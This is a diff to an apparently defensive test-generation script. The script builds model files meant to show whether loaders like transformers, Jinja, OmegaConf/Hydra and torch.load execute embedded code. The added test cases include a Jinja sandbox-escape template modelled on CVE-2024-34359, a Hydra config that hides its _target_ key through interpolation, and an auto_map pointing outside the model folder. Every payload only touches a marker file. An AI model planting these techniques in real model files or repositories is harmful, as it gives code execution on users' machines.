@@ -15,12 +15,13 @@ file and loader ``executed`` (the marker appeared), ``accepted`` or ``rejected``
   named templates), ``chat_template.jinja``, ``chat_template.json`` and GGUF
   ``tokenizer.chat_template[.name]``. transformers' sandbox refuses every one;
 * ``hf_*``: Hugging Face folders whose code ``from_pretrained(trust_remote_code=True)`` runs
-  beyond the file ``auto_map`` names: modules it imports relatively (copied and imported by
+  beyond the folder: a module ``auto_map`` names by an absolute path, modules it imports relatively (copied and imported by
   transformers), ``custom_pipelines`` (``pipeline(trust_remote_code=True)``), and
-  ``preprocessor_config.json``'s ``auto_map`` (``AutoFeatureExtractor``);
+  ``preprocessor_config.json``'s ``auto_map`` (``AutoFeatureExtractor``), and named chat
+  templates in ``additional_chat_templates/`` (a tokenizer loads every ``*.jinja`` there);
 * ``yaml_*``: Hydra configs whose ``_target_`` is spelled inside a string that OmegaConf turns
-  into a node when the value is read (``${oc.create:...}``, ``${oc.decode:...}``), and an
-  alias bomb;
+  into a node when the value is read (``${oc.create:...}``, ``${oc.decode:...}``), also with
+  the key assembled from interpolated pieces, and an alias bomb;
 * ``h5_*``: HDF5 files with a pickle in the user block (``torch.load`` and ``pickle.load``
   read offset 0, h5py the superblock at 512).
 """
@@ -39,6 +40,8 @@ HERE = Path(__file__).parent
 OUT = HERE / "files"
 MARKER = "rt5_marker"
 HYDRA132 = "/work/venvs/hydra132/bin/python"
+# where hf_auto_map_absolute's code is while the loaders run (an absolute path in auto_map)
+ELSEWHERE = "/tmp/rt5_elsewhere"
 GGUF = "/work/venvs/gguf/bin/python"
 
 # -- chat templates: each ends in os.system("touch rt5_marker") when rendered outside a sandbox
@@ -65,6 +68,9 @@ TEMPLATES = {
     "gi_frame_item": '{{ ([1]|map("string")).gi_frame.f_globals.typing.sys.modules["o" ~ "s"]'
                      '.system("touch ' + MARKER + '") }}',
 }
+# CVE-2024-34359's pattern
+CVE_TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('touch " + MARKER + "').read() }}"
+TEMPLATE_DIR = "additional_chat_templates"  # named templates a tokenizer loads from the folder
 BENIGN_TEMPLATE = ("{% for m in messages %}{{ '<|' + m['role'] + '|>' + m['content'] }}"
                    "{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}")
 
@@ -98,6 +104,11 @@ def template_files() -> dict[str, bytes]:
         [{"name": "default", "template": BENIGN_TEMPLATE},
          {"name": "tool_use", "template": TEMPLATES["map_keyword_names"]}])
     out["tpl_benign.tokenizer_config.json"] = tokenizer_config(BENIGN_TEMPLATE)
+    # transformers' environment adds {% generation %} and loop controls: parsed, not an error
+    out["tpl_benign_generation.tokenizer_config.json"] = tokenizer_config(
+        "{% for m in messages %}{% if loop.index > 8 %}{% break %}{% endif %}"
+        "{% if m['role'] == 'assistant' %}{% generation %}{{ m['content']|replace('\\n', ' ') }}"
+        "{% endgeneration %}{% else %}{{ m['content'] }}{% endif %}{% endfor %}")
     out["tpl_percent_c.chat_template.jinja"] = TEMPLATES["map_percent_c"].encode()
     out["tpl_groupby.chat_template.json"] = json.dumps(
         {"chat_template": TEMPLATES["groupby_grouper"]}).encode()
@@ -148,6 +159,13 @@ def hf_folders() -> None:
     folder("hf_custom_pipeline_missing", {**BERT, "custom_pipelines": pipelines}, {})
     remote = {"rt5-task": {"impl": "someone/code--pipe.P", "pt": ["AutoModel"]}}
     folder("hf_custom_pipeline_remote", {**BERT, "custom_pipelines": remote}, {})
+    for name, template in (("hf_additional_chat_template", TEMPLATES["groupby_grouper"]),
+                           ("hf_additional_chat_template_cve", CVE_TEMPLATE)):
+        folder(name, BERT, {})
+        (OUT / name / TEMPLATE_DIR).mkdir()
+        (OUT / name / TEMPLATE_DIR / "tool_use.jinja").write_text(template)
+    folder("hf_auto_map_absolute", {"model_type": "xrt", "auto_map": {
+        "AutoConfig": f"{ELSEWHERE}/configuration_x.XConfig"}}, {})
     folder("hf_preprocessor_auto_map", BERT, {
         "feature_x.py": FEATURE_PY,
         "preprocessor_config.json": json.dumps({
@@ -168,6 +186,9 @@ YAML = {
     "yaml_oc_decode_indirect.yaml": ("payload: \"{_target_: os.system, _args_: [touch "
                                      + MARKER + "]}\"\nmodel:\n  layer: "
                                      "${oc.decode:${payload}}\n", "model.layer"),
+    "yaml_oc_create_split_key.yaml": ("a: _tar\nb: get_\nk: ${a}${b}\npayload: \"{${k}: "
+                                      "os.system, _args_: [touch " + MARKER + "]}\"\nmodel:\n"
+                                      "  layer: ${oc.create:${payload}}\n", "model.layer"),
     "yaml_oc_create_benign.yaml": ("model:\n  layer: \"${oc.create:{_target_: "
                                    "torch.nn.Linear, in_features: 2, out_features: 2}}\"\n",
                                    "model.layer"),
@@ -254,7 +275,7 @@ def gguf_template(path: Path) -> str:
 
 def loaders_for(name: str) -> list[tuple[str, str]]:
     """``(loader, argument)`` pairs run on a file."""
-    if name.startswith("tpl_"):
+    if name.startswith(("tpl_", "hf_additional_chat_template")):
         return [("jinja2.Environment.render", ""), ("transformers sandbox render", "")]
     if name.startswith("hf_custom_pipeline"):
         return [("pipeline(trust_remote_code=True)", ""), ("pipeline()", "")]
@@ -272,8 +293,10 @@ def run(loader: str, path: Path, arg: str) -> str:
     with tempfile.TemporaryDirectory() as tmp:
         target = path.resolve()
         if loader.endswith("render"):  # the template text the front-end renders
-            text = (gguf_template(target) if path.suffix == ".gguf" else
-                    target.read_text() if path.suffix == ".jinja" else None)
+            if path.is_dir():
+                target = next((target / TEMPLATE_DIR).glob("*.jinja"))
+            text = (gguf_template(target) if target.suffix == ".gguf" else
+                    target.read_text() if target.suffix == ".jinja" else None)
             if text is None:
                 value = json.loads(target.read_text())["chat_template"]
                 text = value if isinstance(value, str) else value[-1]["template"]
@@ -301,10 +324,14 @@ def main() -> None:
         (OUT / name).write_bytes(data)
     gguf_files()
     hf_folders()
+    Path(ELSEWHERE).mkdir(exist_ok=True)
+    Path(ELSEWHERE, "configuration_x.py").write_text(PAYLOAD_PY + CONFIG_PY.format(
+        imp="from json import dumps"))
     truth: dict[str, dict[str, str]] = {}
     for path in sorted(OUT.iterdir()):
         truth[path.name] = {ld: run(ld, path, arg) for ld, arg in loaders_for(path.name)}
         print(path.name, truth[path.name], flush=True)
+    shutil.rmtree(ELSEWHERE)
     hydra = subprocess.run([HYDRA132, "-c", "import hydra; print(hydra.__version__)"],
                            capture_output=True, text=True).stdout.strip()
     producer = {"python": sys.version.split()[0], "transformers": transformers.__version__,
